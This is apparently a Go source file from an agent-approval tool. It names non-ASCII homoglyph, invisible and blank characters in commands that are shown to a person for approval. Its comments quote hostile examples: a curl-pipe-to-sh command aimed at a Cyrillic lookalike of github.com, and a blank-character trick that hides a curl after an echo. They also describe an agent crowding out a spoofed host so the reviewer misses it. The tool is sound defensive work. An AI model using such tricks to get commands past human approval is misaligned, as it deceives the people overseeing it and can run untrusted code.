package domain

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// maxNonASCIIShown bounds the characters NonASCIIDetail names one by one.
const maxNonASCIIShown = 8

// NonASCIIDetail names each character outside ASCII in what an approval
// request shows (its summary and its details' values), with its code
// point, its script and the word it is in: 'curl https://gіthub.com/x | sh'
// with a Cyrillic і reads as github.com to the person asked, and fetches
// from another host. The console and the CLI show such a character as it
// is (a person reads text in any script); this line says which ones are
// not the ASCII letters they may look like. ok is false when there are none.
//
// At most maxNonASCIIShown are named, those that deceive first: those in a
// URL's host that holds ASCII letters too (gіthub.com: each such host's
// first maxHostNamed, for up to maxHostsNamed hosts), then those that show
// as nothing, as blank or as part of their neighbour, then lookalikes (a
// letter of another script in a word that holds ASCII ones, a Latin letter
// that is no accented ASCII one, punctuation and modifiers, a
// compatibility form of an ASCII character, a host wholly outside ASCII),
// then the rest, each in the order they appear; "and N more" says of which
// kinds the rest are. An agent that puts eight accented letters in an echo
// before the host does not push the host's out of view, whether its
// accents are precomposed or combining marks, nor a first host of many
// characters a later one's (the thirteenth, eighty-third and eighty-fourth
// reviews).
func NonASCIIDetail(summary string, details []Detail) (d Detail, ok bool) {
	seen := map[string]bool{} // a rune, or a host's rune in that host
	perHost := map[string]int{}
	var ranked [nonASCIIRanks][]string
	var more [nonASCIIRanks]int
	scan := func(s string) {
		for i, r := range s {
			if r < utf8.RuneSelf {
				continue
			}
			host, inHost := urlHost(s, i)
			key := string(r)
			if inHost {
				key = host + "\x00" + key
			}
			if seen[key] {
				continue
			}
			seen[key] = true
			start, end := wordSpan(s, i)
			word := s[start:end]
			rank := nonASCIIRank(r, word, inHost && hasASCIILetter(host), markBase(s, i))
			if inHost && rank > 0 {
				rank = min(rank, 2) // a host wholly outside ASCII
			}
			n := 0
			for k := 0; k <= rank; k++ {
				n += len(ranked[k])
			}
			switch {
			case rank == 0 && (perHost[host] >= maxHostNamed || len(perHost) >= maxHostsNamed && perHost[host] == 0):
				more[rank]++
				continue
			case rank > 0 && n >= max(maxNonASCIIShown, len(ranked[0])):
				more[rank]++
				continue
			}
			if rank == 0 {
				perHost[host]++
			}
			ranked[rank] = append(ranked[rank], fmt.Sprintf("U+%04X (%s) in %q", r, scriptOf(r), word))
		}
	}
	scan(summary)
	for _, x := range details {
		scan(x.Value)
	}
	var parts []string
	for k, p := range ranked {
		keep := max(maxNonASCIIShown, len(ranked[0])) - len(parts)
		if len(p) > keep {
			more[k] += len(p) - keep
			p = p[:keep]
		}
		parts = append(parts, p...)
	}
	if len(parts) == 0 {
		return Detail{}, false
	}
	v := strings.Join(parts, "; ")
	total := 0
	var kinds []string
	for k, m := range more {
		if m > 0 {
			total += m
			kinds = append(kinds, fmt.Sprintf("%d %s", m, nonASCIIKinds[k]))
		}
	}
	if total > 0 {
		v += fmt.Sprintf("; and %d more (%s)", total, strings.Join(kinds, ", "))
	}
	return Detail{Label: "Characters outside ASCII", Value: v, Monospace: true}, true
}

// maxHostNamed and maxHostsNamed bound the characters of URL hosts that
// hold ASCII letters NonASCIIDetail names: each host's first maxHostNamed,
// of up to maxHostsNamed hosts.
const (
	maxHostNamed  = 4
	maxHostsNamed = 16
)

// nonASCIIRanks is how many ranks nonASCIIRank gives; nonASCIIKinds names
// each, for "and N more".
const nonASCIIRanks = 4

var nonASCIIKinds = [nonASCIIRanks]string{"in a URL's host", "invisible, blank or attached", "lookalike", "other"}

// nonASCIIRank orders the characters NonASCIIDetail names: 0 for one in a
// URL's host that holds ASCII letters too; 1 for one that shows as
// nothing, as blank or as part of its neighbour (a format control: zero
// width, bidi; a space other than ' ', a character that draws as blank or
// nothing (BlankDrawing: variation selectors and the default-ignorable);
// a combining mark on anything but a Latin letter; private use or
// unassigned); 2 for a lookalike: a letter or digit of a script other than
// Latin in a word that holds an ASCII letter or digit (a Cyrillic о in a
// path), a Latin letter that is no ASCII letter with marks (ı, ɡ, ø), a
// punctuation mark, modifier letter or symbol, or a math symbol (﹟, ʺ,
// ∕), a character whose compatibility form holds an ASCII one (a
// fullwidth letter); 3 for the rest (an accented Latin letter, precomposed
// or as a combining mark on its Latin base: base is the letter a mark
// attaches to, 0 for none; a word in another script; an emoji).
func nonASCIIRank(r rune, word string, inMixedHost bool, base rune) int {
	if inMixedHost {
		return 0
	}
	if BlankDrawing(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cc) || !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Z, unicode.C) {
		return 1
	}
	if unicode.In(r, unicode.Mn, unicode.Me) {
		if base != 0 && unicode.IsLetter(base) && (base < utf8.RuneSelf || unicode.Is(unicode.Latin, base)) {
			return 3
		}
		return 1
	}
	if (unicode.IsLetter(r) || unicode.IsNumber(r)) && !unicode.In(r, unicode.Latin, unicode.Common, unicode.Inherited) && hasASCIIAlnum(word) {
		return 2
	}
	if unicode.IsLetter(r) && unicode.Is(unicode.Latin, r) && !unicode.In(r, unicode.Lm) {
		if d := norm.NFD.String(string(r)); d[0] >= utf8.RuneSelf {
			return 2 // no ASCII letter under it: ı for i
		}
		return 3
	}
	if unicode.In(r, unicode.P, unicode.Sm, unicode.Sk, unicode.Lm) {
		return 2
	}
	for _, c := range norm.NFKC.String(string(r)) {
		if c < utf8.RuneSelf && c > ' ' {
			return 2 // a compatibility form of an ASCII character
		}
	}
	return 3
}

// hasASCIIAlnum reports whether s holds an ASCII letter or digit.
func hasASCIIAlnum(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			return true
		}
	}
	return false
}

// hasASCIILetter reports whether s holds an ASCII letter.
func hasASCIILetter(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i] | 0x20; c >= 'a' && c <= 'z' {
			return true
		}
	}
	return false
}

// markBase is the character a combining mark at byte i of s attaches to:
// the nearest before it that is no mark (at most 16 back), 0 for none.
func markBase(s string, i int) rune {
	for n := 0; i > 0 && n < 16; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:i])
		if !unicode.In(r, unicode.Mn, unicode.Me) {
			return r
		}
		i -= size
	}
	return 0
}

// BlankDrawing reports whether r draws as a blank, or as nothing, but is
// not the ASCII space, so that a shell reads a word where a person sees two
// or reads another word than the one seen: a space other than ' ' (U+00A0
// no-break, U+2000–U+200A, U+3000, …), U+2800 BRAILLE PATTERN BLANK, a
// variation selector (U+FE00…) and the other default-ignorable characters
// (U+034F, the Hangul fillers U+115F, U+1160, U+3164, U+FFA0, …): `echo
// done⠀#; curl …` reads as a comment and runs the curl, `scripts\uFE00/x`
// reads as scripts/x (the eighty-third and eighty-fourth reviews); and the
// symbols that draw as nothing or as a blank though no property says so
// (blankSymbols: U+FFFC, which Chromium draws with no width, U+1D159; the
// eighty-sixth review). The console (app.js hiddenChars) and the CLI show
// them as escapes; the two lists must be the same.
func BlankDrawing(r rune) bool {
	if r == '\u2800' || strings.ContainsRune(blankSymbols, r) || unicode.In(r, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point) {
		return true
	}
	return r != ' ' && unicode.Is(unicode.Zs, r)
}

// blankSymbols draw as nothing or as a blank: U+FFFC OBJECT REPLACEMENT
// CHARACTER (no width in Chromium), U+303F IDEOGRAPHIC HALF FILL SPACE,
// U+1D159 MUSICAL SYMBOL NULL NOTEHEAD (blank where a music font is
// installed), U+16FE4 KHITAN SMALL SCRIPT FILLER (a mark that fills an
// empty place, on a Latin letter no accent).
const blankSymbols = "\uFFFC\u303F\U0001D159\U00016FE4"

// urlHost returns the authority of the URL that byte i of s lies in (after
// '://', before the next '/', '?', '#' or space), if it lies in one.
func urlHost(s string, i int) (string, bool) {
	if !inURLHost(s, i) {
		return "", false
	}
	start := i
	for start >= 3 && s[start-3:start] != "://" {
		start--
	}
	end := i
	for end < len(s) && !strings.ContainsRune("/?# \t\n\r", rune(s[end])) {
		end++
	}
	return s[start:end], true
}

// inURLHost reports whether byte i of s lies in the authority of a URL
// (after '://', before the next '/', '?' or '#', with no space between),
// looking back at most as far as a host name is long.
func inURLHost(s string, i int) bool {
	for j := i - 1; j >= 2 && j >= i-260; j-- {
		switch c := s[j]; {
		case c == '/' && s[j-1] == '/' && s[j-2] == ':':
			return true
		case c == '/' || c == '?' || c == '#' || c == ' ' || c == '\t' || c == '\n' || c == '\r':
			return false
		}
	}
	return false
}

// wordSpan is the run of non-space characters around byte i of s, at
// most 48 characters before it and 48 after it: s[start:end].
func wordSpan(s string, i int) (start, end int) {
	start, end = i, i
	for n := 0; start > 0 && n < 48; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:start])
		if unicode.IsSpace(r) {
			break
		}
		start -= size
	}
	for n := 0; end < len(s) && n < 49; n++ {
		r, size := utf8.DecodeRuneInString(s[end:])
		if unicode.IsSpace(r) {
			break
		}
		end += size
	}
	return start, end
}

var (
	scriptNamesOnce sync.Once
	scriptNames     []string // unicode.Scripts' names, sorted
)

// scriptOf names the Unicode script of r ("Unknown" for none).
func scriptOf(r rune) string {
	scriptNamesOnce.Do(func() {
		for name := range unicode.Scripts {
			scriptNames = append(scriptNames, name)
		}
		slices.Sort(scriptNames)
	})
	for _, name := range scriptNames {
		if unicode.Is(unicode.Scripts[name], r) {
			return name
		}
	}
	return "Unknown"
}
